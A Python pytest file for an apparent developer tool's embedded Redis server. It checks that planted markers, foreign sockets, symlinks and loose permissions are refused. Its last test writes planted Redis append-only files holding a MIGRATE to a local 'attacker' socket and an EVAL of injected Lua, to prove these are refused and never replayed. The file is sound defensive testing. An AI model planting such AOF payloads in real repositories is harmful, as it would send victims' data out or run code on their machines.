"""The embedded Redis: reused only when provably this project's, private on disk."""

from __future__ import annotations

import json
import os
import socket
import stat
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest
import redis
from redis.backoff import NoBackoff
from redis.retry import Retry

from devloop.core.config import Settings
from devloop.project.load import load_project
from devloop.safe.private import NotPrivate
from devloop.server.embedded import (
    LOCK,
    MARKER,
    TOKEN,
    own_server_files,
    redis_endpoint,
    running_server,
)
from devloop.server.keeper import RedisKeeper
from devloop.server.redis_server import MAX_SOCKET_PATH, RedisServer, RedisServerError, connect
from devloop.store import RedisStore
from tests.proctree import run_bounded

ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="chown to another uid needs root")
NO_URL = Settings(redis_url=None)
DEVLOOP = str(Path(sys.executable).parent / "devloop")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "p"
    path.mkdir()
    return path


@pytest.fixture
def deep_project(tmp_path: Path) -> Path:
    """A project whose .devloop/redis.sock would overflow sun_path: the socket goes to /tmp."""
    path = tmp_path / ("d" * 60) / "p"
    path.mkdir(parents=True)
    assert len(str(path / ".devloop/redis.sock")) >= MAX_SOCKET_PATH
    return path


def plant(state: Path, marker: str, token: str) -> None:
    """What a cloned repo or another user could leave: a marker and a token, 0600 and ours."""
    state.mkdir(mode=0o700, exist_ok=True)
    for name, text in ((MARKER, marker), (TOKEN, token)):
        (state / name).write_text(text + "\n")
        (state / name).chmod(0o600)


def connections(watcher: redis.Redis) -> int:
    """Connections the server ever accepted (the watcher's own stays open, counted once)."""
    return int(watcher.info("stats")["total_connections_received"])


@pytest.fixture
def foreign_tcp(tmp_path: Path) -> Iterator[tuple[RedisServer, redis.Redis]]:
    """A live Redis someone else runs, holding data DevLoop must never see or touch."""
    with RedisServer(tmp_path / "foreign", unix_socket=False) as server:
        watcher = server.client()
        watcher.set("planted", "by someone else")
        yield server, watcher
        watcher.close()


def test_a_marker_naming_a_live_foreign_tcp_server_is_ignored(
    project: Path, foreign_tcp: tuple[RedisServer, redis.Redis]
) -> None:
    foreign, watcher = foreign_tcp
    # The worst case: the marker names it and the token is its real password.
    plant(project / ".devloop", foreign.bare_url, foreign.password)
    before = connections(watcher)
    with redis_endpoint(project, NO_URL) as endpoint:
        assert endpoint.url.startswith("unix://") and endpoint.embedded
        assert str(project / ".devloop/redis.sock") in endpoint.url
        client = connect(endpoint.url)
        assert client.get("planted") is None
        client.set("mine", "1")
    assert connections(watcher) == before  # DevLoop never connected to it
    assert watcher.get("mine") is None


def unix_listener(path: Path) -> socket.socket:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    listener.listen()
    listener.setblocking(False)
    return listener


@ROOT_ONLY
def test_a_socket_of_another_uid_in_the_state_dir_is_ignored(project: Path) -> None:
    state = project / ".devloop"
    plant(state, f"unix://{state / 'redis.sock'}", "a" * 48)
    with unix_listener(state / "redis.sock") as planted:
        os.chown(state / "redis.sock", 65534, 65534)
        with redis_endpoint(project, NO_URL) as endpoint:
            assert connect(endpoint.url).ping()
            assert (state / "redis.sock").lstat().st_uid == os.geteuid()  # ours replaced it
        with pytest.raises(BlockingIOError):
            planted.accept()  # nothing ever connected to the planted socket


@pytest.fixture
def server_in_tmp() -> Iterator[RedisServer]:
    """A live server of this user's in /tmp/devloop-redis-*, as a deep project's would be."""
    home = Path(tempfile.mkdtemp(prefix="devloop-redis-", dir="/tmp"))
    try:
        with RedisServer(home) as server:
            server.client().set("planted", "elsewhere")
            yield server
    finally:
        home.chmod(0o700)
        for entry in home.iterdir():
            entry.unlink()
        home.rmdir()


@pytest.mark.parametrize("how", ["world-writable", "another uid"])
def test_a_tmp_socket_in_a_dir_others_control_is_ignored(
    deep_project: Path, server_in_tmp: RedisServer, how: str
) -> None:
    assert server_in_tmp.socket_path is not None
    home = server_in_tmp.socket_path.parent
    if how == "world-writable":
        home.chmod(0o777)
    else:
        if os.geteuid() != 0:
            pytest.skip("chown to another uid needs root")
        os.chown(home, 65534, 65534)
        os.chown(server_in_tmp.socket_path, 65534, 65534)
    plant(deep_project / ".devloop", server_in_tmp.bare_url, server_in_tmp.password)
    watcher = server_in_tmp.client()
    before = connections(watcher)
    with redis_endpoint(deep_project, NO_URL) as endpoint:
        assert server_in_tmp.bare_url not in endpoint.url
        assert connect(endpoint.url).get("planted") is None
    assert connections(watcher) == before
    watcher.close()


def test_a_link_in_place_of_the_state_dir_is_refused(project: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    (project / ".devloop").symlink_to(elsewhere)
    with pytest.raises(NotPrivate, match="fix: remove it"), redis_endpoint(project, NO_URL):
        pass
    assert list(elsewhere.iterdir()) == []


def test_a_project_dir_any_user_may_write_is_refused(project: Path) -> None:
    project.chmod(0o777)
    with pytest.raises(NotPrivate, match="chmod o-w"), redis_endpoint(project, NO_URL):
        pass


@pytest.mark.parametrize("deep", [False, True])
def test_a_second_command_reuses_the_running_server(
    project: Path, deep_project: Path, deep: bool
) -> None:
    where = deep_project if deep else project
    with redis_endpoint(where, NO_URL) as first:
        connect(first.url).set("k", "v")
        with redis_endpoint(where, NO_URL) as second:
            assert second.url == first.url and second.celery_url == first.celery_url
            assert connect(second.url).get("k") == b"v"
        assert connect(first.url).ping()  # the second command did not stop it
    assert not (where / ".devloop" / MARKER).exists()
    assert not (where / ".devloop" / TOKEN).exists()
    with pytest.raises(redis.ConnectionError):
        connect(first.url, retry=Retry(NoBackoff(), 0)).ping()


def test_a_command_waits_for_the_owners_restarting_server_and_never_starts_a_second(
    project: Path,
) -> None:
    """A run restarts its dead Redis; a command meanwhile must not take its files."""
    with redis_endpoint(project, NO_URL) as owner:  # as `devloop run` holds it
        assert owner.server is not None
        connect(owner.url).set("k", "v")
        owner.server.stop()  # died; the run's keeper starts it again a moment later
        seen: list[tuple[object, str, bytes | None]] = []
        looking = threading.Event()

        def other_command() -> None:
            looking.set()
            with redis_endpoint(project, NO_URL) as other:
                seen.append((other.server, other.url, connect(other.url).get("k")))

        other = threading.Thread(target=other_command)
        other.start()
        # The other command looks while the server is down (a restart that came first
        # would prove nothing: any code reuses a live server).
        assert looking.wait(30)
        time.sleep(1.0)
        # From this thread, as the keeper does: the server dies with the thread that
        # started it (PR_SET_PDEATHSIG).
        owner.server.start()
        other.join(60)
        assert seen == [(None, owner.url, b"v")]
        # The other command left the owner's server and its records alone.
        assert connect(owner.url).ping()
        assert (project / ".devloop" / MARKER).exists()
        assert (project / ".devloop" / TOKEN).exists()


def test_two_commands_starting_at_once_share_one_server(project: Path) -> None:
    both = threading.Barrier(2)
    urls: list[str] = []
    errors: list[BaseException] = []

    def command() -> None:
        try:
            both.wait(10)
            with redis_endpoint(project, NO_URL) as endpoint:
                urls.append(endpoint.url)
                both.wait(10)  # both inside at once
                assert connect(endpoint.url).ping()
                both.wait(10)
        except BaseException as exc:  # noqa: BLE001 - reported below, with the thread's
            errors.append(exc)
            both.abort()

    threads = [threading.Thread(target=command) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert errors == [] and len(urls) == 2 and urls[0] == urls[1]


def test_a_command_whose_owner_never_brings_its_server_back_names_the_owner(
    project: Path,
) -> None:
    with redis_endpoint(project, NO_URL) as owner:
        assert owner.server is not None
        owner.server.stop()
        started = time.monotonic()
        with pytest.raises(RedisServerError) as refused, redis_endpoint(
                project, NO_URL, owner_wait_s=1.0):
            pass
        assert time.monotonic() - started < 10
        assert f"another DevLoop command (pid {os.getpid()})" in str(refused.value)
        assert "wait for that command to end (or stop it), then run this one again" in str(
            refused.value)
        assert not owner.server.running  # nothing was started on its files meanwhile
        assert (project / ".devloop" / TOKEN).exists()


def test_a_run_on_another_commands_server_adopts_it_when_that_command_stops_it(
    project: Path,
) -> None:
    """A console opened before the run and closed during it: the run starts the server again
    with its socket, password and AOF, so its clients go on, and owns it from then on."""
    state = project / ".devloop"
    with ExitStack() as owner:
        first = owner.enter_context(redis_endpoint(project, NO_URL))
        connect(first.url).set("k", "v")
        with redis_endpoint(project, NO_URL) as reused:  # as `devloop run` finds it
            keeper = RedisKeeper.of(reused)
            assert reused.server is None and keeper.check() is None  # its owner lives
            owner.close()  # the console ends: it stops its server and lets go of the files
            with pytest.raises(redis.ConnectionError):
                connect(reused.url, retry=Retry(NoBackoff(), 0)).ping()
            try:
                assert keeper.check() == (
                    "Redis was stopped by the command that started it, and started again here")
                assert connect(reused.url).get("k") == b"v"  # the same URL, the same data
                again = running_server(state)  # found by the next command, as before
                assert again is not None and again.url == reused.url
                assert own_server_files(state) is None  # the run owns the files now
            finally:
                keeper.close()
    assert not (state / MARKER).exists() and not (state / TOKEN).exists()
    with pytest.raises(redis.ConnectionError):
        connect(reused.url, retry=Retry(NoBackoff(), 0)).ping()
    lock = own_server_files(state)
    assert lock is not None  # let go: the next command may start its own
    os.close(lock)


def test_the_state_dir_and_its_files_are_this_users_alone(project: Path) -> None:
    state = project / ".devloop"
    state.mkdir(mode=0o755)  # as an older version left it
    (state / "appendonly.aof").write_bytes(b"")
    (state / "appendonly.aof").chmod(0o644)
    with redis_endpoint(project, NO_URL) as endpoint:
        connect(endpoint.url).set("k", "v")
        assert stat.S_IMODE(state.stat().st_mode) == 0o700
        modes = {p.relative_to(state).as_posix(): stat.S_IMODE(p.lstat().st_mode)
                 for p in state.rglob("*")}
        # The server moved the old single-file AOF into its directory.
        expected = {"redis.conf", "redis.log", "appendonlydir", "appendonlydir/appendonly.aof",
                    "appendonlydir/appendonly.aof.manifest", "redis.sock", MARKER, TOKEN,
                    ".gitignore"}
        assert expected <= set(modes)
        assert all(mode & 0o077 == 0 for mode in modes.values()), modes
        assert endpoint.address.startswith("unix://:***@") and "***" not in endpoint.url
        assert endpoint.url.split("@")[0].split(":")[-1] not in repr(endpoint)


def test_links_planted_in_the_state_dir_are_never_written_through(
    project: Path, tmp_path: Path
) -> None:
    state = project / ".devloop"
    (state / "appendonlydir").mkdir(mode=0o700, parents=True)
    targets = {name: tmp_path / f"target-{name.replace('/', '-')}" for name in
               ("appendonly.aof", "redis.log", "redis.conf", MARKER, TOKEN, LOCK,
                "temp-rewriteaof-1.aof", "appendonlydir/appendonly.aof.manifest",
                "appendonlydir/appendonly.aof.1.base.aof",
                "appendonlydir/appendonly.aof.1.incr.aof")}
    for name, target in targets.items():
        (state / name).symlink_to(target)
    with redis_endpoint(project, NO_URL) as endpoint:
        client = connect(endpoint.url)
        client.set("k", "v" * 1000)
        client.bgrewriteaof()
    assert not any(target.exists() for target in targets.values())
    assert not any(p.is_symlink() for p in state.rglob("*"))


def test_devloop_status_reuses_the_server_of_a_running_command(todo_project: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("DEVLOOP_REDIS")}
    with redis_endpoint(todo_project, NO_URL) as endpoint:  # as `devloop run` holds it
        store = RedisStore(connect(endpoint.url))
        store.import_project(load_project(todo_project))
        done = run_bounded([DEVLOOP, "status", str(todo_project), "--json"], env=env,
                           timeout=120)
        assert done.returncode == 0, done.stderr
        assert {u["unit_id"] for u in json.loads(done.stdout)["units"]} == {
            "todo-be", "todo-fe", "todo-app"}
        password = endpoint.url.split("@")[0].rpartition(":")[2]
        assert password not in done.stdout + done.stderr
        assert connect(endpoint.url).ping()  # still up: status did not stop it
        store.close()


def test_a_state_dir_that_is_not_the_users_is_an_input_error(
    todo_project: Path, tmp_path: Path
) -> None:
    (todo_project / ".devloop").symlink_to(tmp_path)
    env = {k: v for k, v in os.environ.items() if not k.startswith("DEVLOOP_REDIS")}
    done = run_bounded([DEVLOOP, "status", str(todo_project)], env=env, timeout=120)
    assert done.returncode == 2
    assert done.stderr.strip() == (
        f"{todo_project.resolve() / '.devloop'}: type: is a symbolic link; "
        "fix: remove it; DevLoop recreates it"
    )


def test_another_projects_server_of_the_same_user_is_not_taken_for_this_ones(
    deep_project: Path, tmp_path: Path
) -> None:
    other = tmp_path / ("o" * 60) / "other"
    other.mkdir(parents=True)
    with redis_endpoint(other, NO_URL) as theirs:
        connect(theirs.url).set("owner", "other")
        marker = (other / ".devloop" / MARKER).read_text().strip()
        # Its socket is this user's, in a private dir: only the token tells them apart.
        plant(deep_project / ".devloop", marker, "0" * 48)
        with redis_endpoint(deep_project, NO_URL) as ours:
            assert marker.removeprefix("unix://") not in ours.url
            assert connect(ours.url).get("owner") is None
        assert connect(theirs.url).get("owner") == b"other"


def tcp_listeners(pid: int) -> list[str]:
    """Local addresses of the TCP sockets process pid listens on (from /proc/net/tcp*)."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        target = os.readlink(fd)
        if target.startswith("socket:["):
            inodes.add(target[len("socket:[") : -1])
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in inodes:  # 0A: LISTEN
                found.append(fields[1])
    return found


def test_the_embedded_server_listens_on_its_socket_only(project: Path, tmp_path: Path) -> None:
    with redis_endpoint(project, NO_URL) as endpoint:
        assert endpoint.server is not None and endpoint.server._proc is not None
        assert endpoint.url.startswith("unix://") and connect(endpoint.url).ping()
        assert tcp_listeners(endpoint.server._proc.pid) == []
    # What the check would see of a server that does listen on TCP.
    with RedisServer(tmp_path / "tcp", unix_socket=False) as tcp:
        assert tcp._proc is not None and len(tcp_listeners(tcp._proc.pid)) >= 1


def resp(*args: str) -> str:
    """One command as the server logs it."""
    return f"*{len(args)}\r\n" + "".join(f"${len(a.encode())}\r\n{a}\r\n" for a in args)


LUA_MARK = "PLANTED LUA RAN"  # what the planted Lua would log; written so no echo shows it


@pytest.mark.timeout(240)
@pytest.mark.parametrize("command", ["status", "run"])
@pytest.mark.parametrize("layout", ["MIGRATE in Redis 6.2's appendonly.aof",
                                    "EVAL in appendonlydir/"])
def test_a_planted_aof_is_refused_by_status_and_run_and_never_replayed(
    todo_project: Path, command: str, layout: str
) -> None:
    """The issue's attack: a cloned folder ships an AOF that connects out or runs Lua."""
    state = todo_project / ".devloop"
    state.mkdir(mode=0o700)
    env = {k: v for k, v in os.environ.items() if not k.startswith("DEVLOOP_REDIS")}
    with socket.create_server(("127.0.0.1", 0)) as attacker:
        port = str(attacker.getsockname()[1])
        genuine = resp("SELECT", "0") + resp("SET", "k", "v")
        if layout.startswith("MIGRATE"):
            planted = resp("MIGRATE", "127.0.0.1", port, "k", "0", "5000", "COPY")
            (state / "appendonly.aof").write_text(genuine + planted)
            shown, aof = "MIGRATE", state / "appendonly.aof"
        else:
            lua = (f"redis.call('SET', 'pwned', '1') redis.log(redis.LOG_WARNING, "
                   f"'{LUA_MARK[:7]}' .. '{LUA_MARK[7:]}')")
            aof = state / "appendonlydir" / "appendonly.aof.1.incr.aof"
            aof.parent.mkdir(mode=0o700)
            (aof.parent / "appendonly.aof.manifest").write_text(
                "file appendonly.aof.1.incr.aof seq 1 type i\n")
            aof.write_text(genuine + resp("EVAL", lua, "0"))
            shown = "EVAL"
        argv = [DEVLOOP, command, str(todo_project)]
        argv += ["--llm", "stub", "--workers", "1"] if command == "run" else []
        done = run_bounded(argv, env=env, timeout=180)
        assert done.returncode == 2, done.stdout + done.stderr
        refusal = done.stderr.strip().splitlines()[-1]
        assert refusal.startswith(f"{aof.resolve()}: command 3 (byte {len(genuine)}): "
                                  f"holds '{shown}', a command DevLoop's server never writes")
        attacker.settimeout(0.5)
        with pytest.raises(TimeoutError):
            attacker.accept()  # MIGRATE never connected out
    assert not (state / "redis.log").exists()  # no server ever replayed it: no Lua ran
    assert not list(state.glob("worker-*.log"))  # and no worker started
    # The fix as printed, run as printed, lets the next command start afresh.
    fix = refusal.split("(`", 1)[1].split("`)", 1)[0]
    assert fix.startswith("mv ")
    assert run_bounded(["bash", "-c", fix], timeout=30).returncode == 0
    after = run_bounded([DEVLOOP, "status", str(todo_project)], env=env, timeout=120)
    assert "was never enqueued here" in after.stderr, after.stderr  # a fresh, empty state
    assert LUA_MARK not in (state / "redis.log").read_text()
    assert (todo_project / ".devloop.untrusted" / aof.relative_to(state)).exists()
